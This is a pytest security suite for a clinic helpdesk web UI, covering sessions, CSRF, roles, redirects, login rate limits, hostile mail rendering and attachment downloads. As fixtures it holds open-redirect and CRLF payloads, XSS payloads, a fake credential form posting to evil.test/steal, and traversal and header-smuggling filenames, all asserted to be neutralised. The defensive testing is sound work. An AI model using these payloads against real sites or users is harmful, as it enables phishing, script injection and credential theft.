"""The staff UI's security properties: sessions, CSRF, roles, redirects, hostile mail."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from starlette.routing import Mount

from helpdesk.web.pages import content_disposition, download_type
from helpdesk.web.security import CSP, safe_next
from tests.web.conftest import PASSWORD, MakeTicket, MakeUser, MessageSpec, csrf_of, login

PUBLIC = {"/login", "/healthz", "/metrics"}


def _concrete(path: str) -> str:
    return re.sub(
        r"\{(\w+)[^}]*\}", lambda m: "1" if m.group(1).endswith("id") else "HD-1001", path
    )


def _walk(routes: list[Any]) -> Iterator[Any]:
    """Every route, also inside included routers (which newer FastAPI keeps unexpanded)."""
    for route in routes:
        if hasattr(route, "original_router"):
            prefix = getattr(getattr(route, "include_context", None), "prefix", "") or ""
            for inner_prefix, inner in _walk(route.original_router.routes):
                yield prefix + inner_prefix, inner
        else:
            yield "", route


def _routes(app: FastAPI) -> list[tuple[str, str]]:
    out = []
    for prefix, route in _walk(app.routes):
        if isinstance(route, Mount) or not hasattr(route, "methods"):
            continue
        path = prefix + getattr(route, "path", "")
        if path in PUBLIC:
            continue
        for method in sorted(route.methods or ()):
            if method != "HEAD":
                out.append((method, _concrete(path)))
    return out


async def test_every_route_needs_a_session(app: FastAPI, client: httpx.AsyncClient) -> None:
    routes = _routes(app)
    assert len(routes) > 20
    for method, path in routes:
        response = await client.request(method, path)
        if method == "GET":
            assert response.status_code == 303, (method, path, response.status_code)
            assert response.headers["location"].startswith("/login?next="), path
        else:
            assert response.status_code in (401, 403), (method, path, response.status_code)


async def test_anonymous_post_with_a_valid_csrf_token_is_still_refused(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    token = await csrf_of(client, "/login")
    for method, path in _routes(app):
        if method == "POST" and path != "/logout":
            response = await client.post(path, data={"csrf_token": token})
            assert response.status_code == 401, (path, response.status_code)


async def test_agents_get_403_on_admin_pages(app: FastAPI, agent_client: httpx.AsyncClient) -> None:
    token = await csrf_of(agent_client)
    admin_routes = [(m, p) for m, p in _routes(app) if p.startswith("/admin")]
    assert len(admin_routes) >= 10
    for method, path in admin_routes:
        data = {"csrf_token": token} if method == "POST" else None
        response = await agent_client.request(method, path, data=data)
        assert response.status_code == 403, (method, path, response.status_code)


async def test_admins_reach_admin_pages(admin_client: httpx.AsyncClient) -> None:
    for path in ("/admin/health", "/admin/users", "/admin/oncall", "/admin/canned"):
        response = await admin_client.get(path)
        assert response.status_code == 200, path


async def test_post_without_or_with_a_wrong_csrf_token_is_403(
    agent_client: httpx.AsyncClient, make_ticket: MakeTicket
) -> None:
    ticket = await make_ticket()
    path = f"/tickets/{ticket.reference}/note"
    assert (await agent_client.post(path, data={"body": "x"})).status_code == 403
    assert (
        await agent_client.post(path, data={"body": "x", "csrf_token": "forged"})
    ).status_code == 403
    good = await csrf_of(agent_client)
    assert (
        await agent_client.post(path, data={"body": "x", "csrf_token": good})
    ).status_code == 303


async def test_csrf_token_from_another_session_is_refused(
    app: FastAPI, agent_client: httpx.AsyncClient, make_ticket: MakeTicket
) -> None:
    ticket = await make_ticket()
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as other:
        foreign = await csrf_of(other, "/login")
    response = await agent_client.post(
        f"/tickets/{ticket.reference}/note", data={"body": "x", "csrf_token": foreign}
    )
    assert response.status_code == 403


async def test_session_cookie_is_replaced_at_login(
    client: httpx.AsyncClient, agent: object, make_user: MakeUser
) -> None:
    await client.get("/login")
    before = client.cookies.get("helpdesk_session")
    assert before
    token_before = await csrf_of(client, "/login")
    response = await login(client, "agent@clinic.test")
    assert response.status_code == 303
    after = client.cookies.get("helpdesk_session")
    assert after
    assert after != before
    assert await csrf_of(client) != token_before
    cookie = response.headers["set-cookie"].lower()
    assert "httponly" in cookie
    assert "samesite=lax" in cookie
    assert "secure" not in cookie


async def test_planted_session_cookie_grants_nothing(app: FastAPI, agent: object) -> None:
    """An attacker's pre-login cookie, still held by the attacker, is not signed in."""
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as attacker:
        await attacker.get("/login")
        planted = attacker.cookies.get("helpdesk_session")
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as victim:
            victim.cookies.set("helpdesk_session", planted)
            assert (await login(victim, "agent@clinic.test")).status_code == 303
            assert (await victim.get("/")).status_code == 200
        assert (await attacker.get("/")).status_code == 303


async def test_secure_cookie_when_base_url_is_https(tmp_path: object) -> None:
    from helpdesk.web import create_app
    from tests.web.conftest import web_settings_for

    app = create_app(web_settings_for("sqlite+aiosqlite:///:memory:", base_url="https://desk.test"))
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="https://testserver") as c:
            response = await c.get("/login")
    assert "secure" in response.headers["set-cookie"].lower()
    assert "max-age=31536000" in response.headers["strict-transport-security"]


@pytest.mark.parametrize(
    "target",
    [
        "//evil.test/x",
        "https://evil.test/",
        "/\\evil.test",
        "\\\\evil.test",
        "javascript:alert(1)",
        "http:/evil.test",
        "/%0d%0aSet-Cookie:x",
        " /x",
        "evil.test",
        "/\t/evil.test",
        "///evil.test",
    ],
)
async def test_no_open_redirect_after_login(
    client: httpx.AsyncClient, agent: object, target: str
) -> None:
    response = await login(client, "agent@clinic.test", next_=target)
    assert response.status_code == 303
    location = response.headers["location"]
    assert location == "/" or (location.startswith("/") and not location.startswith("//")), location
    assert "evil" not in location


async def test_next_is_followed_when_local(client: httpx.AsyncClient, agent: object) -> None:
    response = await client.get("/tickets/HD-1001?x=1")
    assert response.headers["location"] == "/login?next=%2Ftickets%2FHD-1001%3Fx%3D1"
    page = await client.get(response.headers["location"])
    assert 'name="next" value="/tickets/HD-1001?x=1"' in page.text
    response = await login(client, "agent@clinic.test", next_="/tickets/HD-1001?x=1")
    assert response.headers["location"] == "/tickets/HD-1001?x=1"


def test_safe_next_unit() -> None:
    assert safe_next("/a/b?c=d") == "/a/b?c=d"
    for bad in ("//x", "/\\x", "https://x", "x", "", None, "/\x00", "/ok\r\nx"):
        assert safe_next(bad) == "/"


async def test_login_rate_limit(client: httpx.AsyncClient, agent: object) -> None:
    for _ in range(5):
        response = await login(client, "agent@clinic.test", password="wrong password!")
        assert response.status_code == 401
    # Locked: even the right password is refused now, for this account from this address.
    response = await login(client, "agent@clinic.test", password=PASSWORD)
    assert response.status_code == 429
    assert "Too many failed attempts" in response.text


async def test_rate_limit_is_per_account(client: httpx.AsyncClient, make_user: MakeUser) -> None:
    await make_user("a@clinic.test")
    await make_user("b@clinic.test")
    for _ in range(5):
        await login(client, "a@clinic.test", password="wrong password!")
    assert (await login(client, "b@clinic.test")).status_code == 303


async def test_wrong_password_unknown_user_and_inactive_user_are_refused(
    client: httpx.AsyncClient, make_user: MakeUser
) -> None:
    await make_user("gone@clinic.test", active=False)
    assert (await login(client, "gone@clinic.test")).status_code == 401
    assert (await login(client, "nobody@clinic.test")).status_code == 401


async def test_deactivation_ends_existing_sessions(
    agent_client: httpx.AsyncClient, agent: object, db: object
) -> None:
    from helpdesk import users

    assert (await agent_client.get("/")).status_code == 200
    async with db() as session:  # type: ignore[operator]
        await users.set_active(session, user_id=agent.id, active=False)  # type: ignore[attr-defined]
        await session.commit()
    assert (await agent_client.get("/")).status_code == 303


async def test_password_reset_ends_existing_sessions(
    agent_client: httpx.AsyncClient, agent: object, db: object
) -> None:
    from helpdesk import users

    async with db() as session:  # type: ignore[operator]
        await users.set_password(session, user_id=agent.id, password="another long password")  # type: ignore[attr-defined]
        await session.commit()
    assert (await agent_client.get("/")).status_code == 303


async def test_logout(agent_client: httpx.AsyncClient) -> None:
    token = await csrf_of(agent_client)
    assert (await agent_client.post("/logout", data={"csrf_token": token})).status_code == 303
    assert (await agent_client.get("/")).status_code == 303


async def test_security_headers_everywhere(agent_client: httpx.AsyncClient) -> None:
    for path in ("/", "/login", "/healthz", "/metrics", "/nope", "/static/desk.css"):
        response = await agent_client.get(path)
        assert response.headers["content-security-policy"] == CSP, path
        assert response.headers["x-frame-options"] == "DENY"
        assert response.headers["referrer-policy"] == "no-referrer"


HOSTILE_HTML = """
<p>Please help <b>urgently</b></p>
<script>alert('xss')</script>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('js')">click me</a>
<a href=" JaVaScRiPt:alert(2)">again</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">OVERLAY</div>
<p style="width: expression(alert('css'))">expr</p>
<style>body { display: none }</style>
<form action="https://evil.test/steal"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.test/frame"></iframe>
<img src="http://remote.test/pixel.png" alt="tracking">
<img src="https://remote.test/pixel2.png">
<svg onload="alert(3)"><circle r=1></circle></svg>
<a href="https://example.test/ok">a fine link</a>
<p class="flash flash-error" id="main">fake UI</p>
"""


async def test_hostile_mail_renders_inert(
    agent_client: httpx.AsyncClient, make_ticket: MakeTicket
) -> None:
    ticket = await make_ticket(
        messages=[
            MessageSpec(text="<script>alert('plain')</script> see html", html=HOSTILE_HTML),
        ]
    )
    page = (await agent_client.get(f"/tickets/{ticket.reference}")).text
    body = page.split('class="msg-body html">', 1)[1].split('<details class="plain">', 1)[0]
    lowered = body.lower()
    for bad in (
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "<form",
        "<iframe",
        "<style",
        "style=",
        "expression(",
        "remote.test",
        "<svg",
        "<input",
        "class=",
        "id=",
    ):
        assert bad not in lowered, bad
    assert "urgently" in body
    assert "a fine link" in body
    assert 'rel="noopener noreferrer nofollow"' in body
    assert 'target="_blank"' in body
    assert 'data-blocked="remote image not loaded"' in body
    # the plain-text part is escaped, not interpreted
    assert "&lt;script&gt;alert(&#39;plain&#39;)&lt;/script&gt;" in page
    assert "<script>alert" not in page


HOSTILE_NAMES = [
    ("../../x.html", "text/html", b"<script>alert(1)</script>"),
    ('"; filename=evil.exe', "application/x-msdownload", b"MZ"),
    ("report\r\nSet-Cookie: a=b.pdf", "application/pdf", b"%PDF"),
    ("ünïcødé résumé.svg", "image/svg+xml", b"<svg onload=alert(1)>"),
    ("photo.png", "image/png", b"\x89PNG"),
]


async def test_hostile_attachments_download_safely(
    agent_client: httpx.AsyncClient, make_ticket: MakeTicket, db: object
) -> None:
    ticket = await make_ticket(messages=[MessageSpec(attachments=tuple(HOSTILE_NAMES))])
    page = (await agent_client.get(f"/tickets/{ticket.reference}")).text
    ids = re.findall(r'href="/attachments/(\d+)\?ticket=' + ticket.reference, page)
    assert len(ids) == len(HOSTILE_NAMES)
    for att_id, (_name, _ctype, content) in zip(ids, HOSTILE_NAMES, strict=True):
        response = await agent_client.get(f"/attachments/{att_id}?ticket={ticket.reference}")
        assert response.status_code == 200
        assert response.content == content
        disposition = response.headers["content-disposition"]
        assert disposition.startswith("attachment; ")
        assert "\r" not in disposition
        assert "\n" not in disposition
        assert "/" not in disposition.split("filename*=")[0]
        assert ".." not in disposition
        assert disposition.count('"') == 2
        assert "filename*=UTF-8''" in disposition
        assert response.headers["x-content-type-options"] == "nosniff"
    types = [
        (await agent_client.get(f"/attachments/{i}?ticket={ticket.reference}")).headers[
            "content-type"
        ]
        for i in ids
    ]
    assert types[:4] == ["application/octet-stream"] * 4
    assert types[4] == "image/png"


def test_content_disposition_unit() -> None:
    assert (
        content_disposition("../../x.html")
        == "attachment; filename=\"x.html\"; filename*=UTF-8''x.html"
    )
    evil = content_disposition('"; filename=evil.exe')
    assert evil.startswith('attachment; filename="__ filename_evil.exe"; ')
    assert content_disposition("a\r\nb.txt").count("\n") == 0
    assert "filename*=UTF-8''r%C3%A9sum%C3%A9.pdf" in content_disposition("résumé.pdf")
    assert content_disposition("").startswith('attachment; filename="attachment"')
    assert download_type("text/html; charset=utf-8") == "application/octet-stream"
    assert download_type("image/svg+xml") == "application/octet-stream"
    assert download_type("application/xhtml+xml") == "application/octet-stream"
    assert download_type("image/jpeg") == "image/jpeg"
    assert download_type("bogus") == "application/octet-stream"


async def test_attachment_only_through_its_own_ticket(
    agent_client: httpx.AsyncClient, make_ticket: MakeTicket
) -> None:
    mine = await make_ticket(messages=[MessageSpec(attachments=(("a.txt", "text/plain", b"A"),))])
    other = await make_ticket(
        requester="other@patients.test",
        messages=[
            MessageSpec(
                text="OTHER PATIENT SECRET", attachments=(("secret.txt", "text/plain", b"S"),)
            )
        ],
    )
    page = (await agent_client.get(f"/tickets/{other.reference}")).text
    other_id = re.findall(r'href="/attachments/(\d+)\?', page)[0]
    assert (
        await agent_client.get(f"/attachments/{other_id}?ticket={mine.reference}")
    ).status_code == 404
    assert (await agent_client.get(f"/attachments/{other_id}")).status_code == 422
    assert (
        await agent_client.get(f"/attachments/{other_id}?ticket={other.reference}")
    ).status_code == 200


async def test_another_patients_data_never_appears(
    agent_client: httpx.AsyncClient, make_ticket: MakeTicket
) -> None:
    a = await make_ticket(
        "Refill",
        requester="alice@patients.test",
        requester_name="Alice A",
        messages=[MessageSpec(text="alice private text")],
    )
    b = await make_ticket(
        "Billing",
        requester="bob@patients.test",
        requester_name="Bob B",
        messages=[MessageSpec(text="bob private text")],
    )
    page_a = (await agent_client.get(f"/tickets/{a.reference}")).text
    assert "alice private text" in page_a
    assert "bob" not in page_a.lower()
    page_b = (await agent_client.get(f"/tickets/{b.reference}")).text
    assert "alice" not in page_b.lower()
    assert (await agent_client.get("/tickets/HD-999999")).status_code == 404
    assert (await agent_client.get("/tickets/hd-1001%2F..%2FHD-1002")).status_code == 404
